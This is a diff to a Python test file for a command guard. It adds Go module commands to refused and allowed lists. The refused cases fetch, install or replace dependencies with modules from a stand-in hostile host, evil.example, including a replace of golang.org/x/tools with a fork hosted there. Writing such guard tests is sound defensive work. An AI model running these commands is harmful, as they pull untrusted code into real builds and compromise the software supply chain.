@@ -23,6 +23,8 @@ from tests.guards.command_guard.cg_support import allowed, refused
         "go mod download evil.example/x@v1",
         "GOFLAGS=-mod=mod go install pkg.internal.evil.example/tool@v0.1.0",
         "sudo go install evil.example/x@latest",
+        "go mod edit -replace golang.org/x/tools=evil.example/fork@v1.0.0",
+        "go mod edit -require=evil.example/x@v1.2.3",
     ],
 )
 def test_a_go_module_from_an_unvetted_host_is_refused(command: str) -> None:
@@ -43,6 +45,9 @@ def test_a_go_module_from_an_unvetted_host_is_refused(command: str) -> None:
         "go get -u ./...",
         "go install ./...",
         "go test ./...",
+        "go mod edit -replace github.com/a/b=../b",
+        "go mod edit -replace=github.com/a/b=github.com/me/b@v1.2.0",
+        "go mod edit -go=1.22",
     ],
 )
 def test_go_modules_from_forges_and_own_networks_stay_allowed(command: str) -> None:
